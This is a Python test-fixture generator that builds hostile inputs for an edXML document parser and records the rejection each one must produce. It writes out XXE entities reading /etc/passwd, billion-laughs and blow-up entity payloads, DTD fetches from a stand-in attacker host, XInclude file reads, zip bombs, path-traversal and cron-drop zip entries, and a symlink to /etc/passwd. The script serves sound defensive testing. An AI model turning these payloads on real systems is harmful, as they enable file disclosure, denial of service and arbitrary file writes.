"""Regenerate the hostile-input corpus: ``python tests/edxml/hostile/make_corpus.py``.

Each case is one file; ``cases.json`` says what reading it must give: an exception (class and
code), or, for messy-but-readable input, an error finding (and a ValidationError when strict).
Limits are lowered for the size cases so that the files stay small.
"""

from __future__ import annotations

import io
import json
import stat
import zipfile
from pathlib import Path

HERE = Path(__file__).resolve().parent
NS = "http://www.mic.gov.vn/TBT/QCVN_102_2016"

HEADER = """<edXML:MessageHeader>
<edXML:From><edXML:OrganId>000.00.00.G22</edXML:OrganId></edXML:From>
<edXML:To><edXML:OrganId>000.00.00.H41</edXML:OrganId></edXML:To>
<edXML:DocumentId>000.00.00.G22,2015/09/30,7816/VPCP-TTĐT</edXML:DocumentId>
<edXML:Code><edXML:CodeNumber>7816</edXML:CodeNumber></edXML:Code>
<edXML:PromulgationInfo><edXML:PromulgationDate>2015/09/30</edXML:PromulgationDate>
</edXML:PromulgationInfo>
<edXML:DocumentType><edXML:TypeName>Công văn</edXML:TypeName></edXML:DocumentType>
<edXML:Subject>{subject}</edXML:Subject>{extra}
</edXML:MessageHeader>"""


def envelope(
    *,
    subject: str = "V/v thử",
    extra: str = "",
    references: tuple[str, ...] = ("cid:1",),
    attachments: tuple[tuple[str, str], ...] = (("cid:1", "QUJD"),),
    prolog: str = '<?xml version="1.0" encoding="UTF-8"?>\n',
    root: str = f'<edXML xmlns="{NS}">',
    tail: str = "",
) -> str:
    manifest = "".join(
        f"<edXML:Reference><edXML:ContentId>{c}</edXML:ContentId>"
        "<edXML:AttachmentName>a.pdf</edXML:AttachmentName>"
        "<edXML:ContentType>application/pdf</edXML:ContentType></edXML:Reference>"
        for c in references
    )
    files = "".join(
        f"<Attachment><ContentId>{c}</ContentId><AttachmentName>a.pdf</AttachmentName>"
        f"<ContentType>application/pdf</ContentType>"
        f'<edXML:ContentTransferEncoded xmlns:edXML="{NS}">{payload}'
        "</edXML:ContentTransferEncoded></Attachment>"
        for c, payload in attachments
    )
    encoded = f"<AttachmentEncoded>{files}</AttachmentEncoded>" if attachments else ""
    return (
        f"{prolog}{root}\n"
        f'<edXML:edXMLEnvelope xmlns:edXML="{NS}"><edXML:edXMLHeader>'
        f"{HEADER.format(subject=subject, extra=extra)}</edXML:edXMLHeader>"
        f'<edXML:edXMLBody><edXML:edXMLManifest version="1.0">{manifest}'
        f"</edXML:edXMLManifest></edXML:edXMLBody></edXML:edXMLEnvelope>{encoded}{tail}"
        "</edXML>\n"
    )


def raises(error: str, code: str, **limits: int) -> dict[str, object]:
    return {"raises": error, "code": code, "limits": limits}


def finding(code: str, **limits: int) -> dict[str, object]:
    return {"finding": code, "limits": limits}


def zip_bytes(entries: list[tuple[str, bytes]], *, link: str | None = None) -> bytes:
    buffer = io.BytesIO()
    with zipfile.ZipFile(buffer, "w", compression=zipfile.ZIP_DEFLATED) as archive:
        for name, data in entries:
            archive.writestr(name, data)
        if link is not None:
            info = zipfile.ZipInfo(link)
            info.external_attr = (stat.S_IFLNK | 0o777) << 16
            archive.writestr(info, "/etc/passwd")
    return buffer.getvalue()


def main() -> None:
    doctype = '<?xml version="1.0" encoding="UTF-8"?>\n'
    cases: dict[str, tuple[bytes, dict[str, object]]] = {
        "xxe_external_entity.edxml": (
            envelope(
                prolog=doctype + '<!DOCTYPE edXML [<!ENTITY xxe SYSTEM "file:///etc/passwd">]>\n',
                subject="&xxe;",
            ).encode(),
            raises("UnsafeInputError", "edxml.unsafe.doctype"),
        ),
        "billion_laughs.edxml": (
            envelope(
                prolog=doctype
                + '<!DOCTYPE edXML [<!ENTITY a "aaaaaaaaaa">'
                + "".join(
                    f'<!ENTITY {chr(98 + i)} "{("&" + chr(97 + i) + ";") * 10}">' for i in range(8)
                )
                + "]>\n",
                subject="&i;",
            ).encode(),
            raises("UnsafeInputError", "edxml.unsafe.doctype"),
        ),
        "quadratic_blowup.edxml": (
            envelope(
                prolog=doctype + f'<!DOCTYPE edXML [<!ENTITY big "{"x" * 5000}">]>\n',
                subject="&big;" * 200,
            ).encode(),
            raises("UnsafeInputError", "edxml.unsafe.doctype"),
        ),
        "external_dtd.edxml": (
            envelope(
                prolog=doctype + '<!DOCTYPE edXML SYSTEM "http://attacker.invalid/edxml.dtd">\n'
            ).encode(),
            raises("UnsafeInputError", "edxml.unsafe.doctype"),
        ),
        "parameter_entity.edxml": (
            envelope(
                prolog=doctype
                + '<!DOCTYPE edXML [<!ENTITY % p SYSTEM "http://attacker.invalid/p.dtd"> %p;]>\n'
            ).encode(),
            raises("UnsafeInputError", "edxml.unsafe.doctype"),
        ),
        "doctype_split_across_lines.edxml": (
            envelope(prolog=doctype + "<!DOCTYPE\nedXML\n[\n<!ELEMENT edXML ANY>\n]>\n").encode(),
            raises("UnsafeInputError", "edxml.unsafe.doctype"),
        ),
        "xinclude.edxml": (
            envelope(
                extra='<xi:include xmlns:xi="http://www.w3.org/2001/XInclude" '
                'href="file:///etc/passwd" parse="text"/>'
            ).encode(),
            raises("UnsafeInputError", "edxml.unsafe.xinclude"),
        ),
        "undefined_entity.edxml": (
            envelope(subject="&passwd;").encode(),
            raises("ParseError", "edxml.syntax"),
        ),
        "deep_nesting.edxml": (
            envelope(extra="<edXML:X>" * 60 + "</edXML:X>" * 60).encode(),
            raises("UnsafeInputError", "edxml.limits.depth"),
        ),
        "very_deep_nesting.edxml": (
            envelope(extra="<a>" * 5000 + "</a>" * 5000).encode(),
            raises("UnsafeInputError", "edxml.limits.depth"),
        ),
        "invalid_utf8.edxml": (
            envelope(subject="@@").encode().replace(b"@@", b"\xff\xfe\xc3"),
            raises("ParseError", "edxml.encoding"),
        ),
        "utf16.edxml": (
            envelope(prolog='<?xml version="1.0" encoding="UTF-16"?>\n').encode("utf-16"),
            raises("ParseError", "edxml.encoding"),
        ),
        "latin1_declared.edxml": (
            envelope(prolog='<?xml version="1.0" encoding="ISO-8859-1"?>\n').encode("utf-8"),
            raises("ParseError", "edxml.encoding"),
        ),
        "wrong_namespace.edxml": (
            envelope(root='<edXML xmlns="http://attacker.invalid/edxml">').encode(),
            raises("ParseError", "edxml.namespace"),
        ),
        "bkav_namespace.edxml": (
            envelope(root='<edXML xmlns="http://www.e-doc.vn/Schema/">').encode(),
            raises("ParseError", "edxml.namespace"),
        ),
        "no_namespace.edxml": (
            envelope(root="<edXML>").encode(),
            raises("ParseError", "edxml.namespace"),
        ),
        "not_xml.edxml": (b"this is not XML at all\n", raises("ParseError", "edxml.syntax")),
        "empty.edxml": (b"", raises("ParseError", "edxml.syntax")),
        "truncated.edxml": (
            envelope().encode()[:300],
            raises("ParseError", "edxml.syntax"),
        ),
        "nul_character.edxml": (
            envelope(subject="&#0;").encode(),
            raises("ParseError", "edxml.syntax"),
        ),
        "duplicate_content_id.edxml": (
            envelope(attachments=(("cid:1", "QUJD"), ("cid:1", "REVG"))).encode(),
            raises("UnsafeInputError", "edxml.attachment.duplicate_content_id"),
        ),
        "duplicate_manifest_content_id.edxml": (
            envelope(references=("cid:1", "cid:1")).encode(),
            raises("UnsafeInputError", "edxml.manifest.duplicate_content_id"),
        ),
        "malformed_base64.edxml": (
            envelope(attachments=(("cid:1", "!!not-base64!!"),)).encode(),
            finding("edxml.attachment.base64"),
        ),
        "base64_bad_length.edxml": (
            envelope(attachments=(("cid:1", "QUJDR"),)).encode(),
            finding("edxml.attachment.base64"),
        ),
        "base64_data_after_padding.edxml": (
            envelope(attachments=(("cid:1", "QQ==QUJD"),)).encode(),
            finding("edxml.attachment.base64"),
        ),
        "base64_child_element.edxml": (
            envelope(attachments=(("cid:1", "QUJD<edXML:X/>REVG"),)).encode(),
            finding("edxml.attachment.base64"),
        ),
        "payload_hidden_in_comment.edxml": (
            envelope(
                tail=f'<!-- <edXML:ContentTransferEncoded xmlns:edXML="{NS}">QUJD'
                "</edXML:ContentTransferEncoded> -->"
            ).encode(),
            finding("edxml.attachment.orphan_payload"),
        ),
        "payload_in_foreign_namespace.edxml": (
            envelope(attachments=(("cid:1", "QUJD"),))
            .replace(
                f'<edXML:ContentTransferEncoded xmlns:edXML="{NS}">',
                '<edXML:ContentTransferEncoded xmlns:edXML="urn:attacker">',
            )
            .encode(),
            finding("edxml.attachment.orphan_payload"),
        ),
        "payload_truncated.edxml": (
            envelope(attachments=(("cid:1", "QUJD" * 100),)).encode()[:-120],
            raises("ParseError", "edxml.syntax"),
        ),
        "manifest_missing_attachment.edxml": (
            envelope(references=("cid:1", "cid:2")).encode(),
            finding("edxml.manifest.missing_content"),
        ),
        "attachment_not_in_manifest.edxml": (
            envelope(attachments=(("cid:1", "QUJD"), ("cid:2", "REVG"))).encode(),
            finding("edxml.manifest.extra_content"),
        ),
        "oversized_header.edxml": (
            envelope(subject="Đ" * 20_000).encode(),
            raises("UnsafeInputError", "edxml.limits.markup_size", max_markup_bytes=16_384),
        ),
        "too_many_elements.edxml": (
            envelope(
                extra="<edXML:ToPlaces>"
                + "<edXML:Place>x</edXML:Place>" * 500
                + "</edXML:ToPlaces>"
            ).encode(),
            raises("UnsafeInputError", "edxml.limits.elements", max_elements=200),
        ),
        "oversized_attachment.edxml": (
            envelope(attachments=(("cid:1", "QUJD" * 5000),)).encode(),
            raises("UnsafeInputError", "edxml.limits.attachment_size", max_attachment_bytes=1000),
        ),
        "too_many_attachments.edxml": (
            envelope(
                references=("cid:1", "cid:2", "cid:3"),
                attachments=(("cid:1", "QUJD"), ("cid:2", "QUJD"), ("cid:3", "QUJD")),
            ).encode(),
            raises("UnsafeInputError", "edxml.limits.attachments", max_attachments=2),
        ),
        "oversized_message.edxml": (
            envelope(attachments=(("cid:1", "QUJD" * 5000),)).encode(),
            raises("UnsafeInputError", "edxml.limits.message_size", max_message_bytes=4096),
        ),
        "zip_bomb_ratio.zip": (
            zip_bytes([("a.doc", b"\0" * 3_000_000)]),
            raises("UnsafeInputError", "edxml.zip.ratio"),
        ),
        "zip_bomb_absolute.zip": (
            zip_bytes([("a.doc", bytes(range(256)) * 8192)]),
            raises("UnsafeInputError", "edxml.zip.bomb", zip_max_entry_bytes=1_000_000),
        ),
        "zip_traversal.zip": (
            zip_bytes([("../../evil.sh", b"echo pwned")]),
            raises("UnsafeInputError", "edxml.zip.path"),
        ),
        "zip_absolute_path.zip": (
            zip_bytes([("/etc/cron.d/evil", b"* * * * * root true")]),
            raises("UnsafeInputError", "edxml.zip.path"),
        ),
        "zip_windows_drive.zip": (
            zip_bytes([("C:\\Windows\\evil.dll", b"MZ")]),
            raises("UnsafeInputError", "edxml.zip.path"),
        ),
        "zip_symlink.zip": (
            zip_bytes([("a.doc", b"x")], link="link"),
            raises("UnsafeInputError", "edxml.zip.link"),
        ),
        "zip_duplicate_names.zip": (
            zip_bytes([("a.doc", b"x"), ("A.DOC", b"y")]),
            raises("UnsafeInputError", "edxml.zip.duplicate"),
        ),
        "zip_too_many_entries.zip": (
            zip_bytes([(f"f{i}.txt", b"x") for i in range(30)]),
            raises("UnsafeInputError", "edxml.zip.entries", zip_max_entries=20),
        ),
        "zip_corrupt.zip": (
            b"PK\x03\x04 not really a zip",
            raises("UnsafeInputError", "edxml.zip.corrupt"),
        ),
    }
    manifest: dict[str, dict[str, object]] = {}
    for name, (data, expected) in sorted(cases.items()):
        (HERE / name).write_bytes(data)
        manifest[name] = expected
    (HERE / "cases.json").write_text(json.dumps(manifest, indent=2) + "\n", encoding="utf-8")


if __name__ == "__main__":
    main()
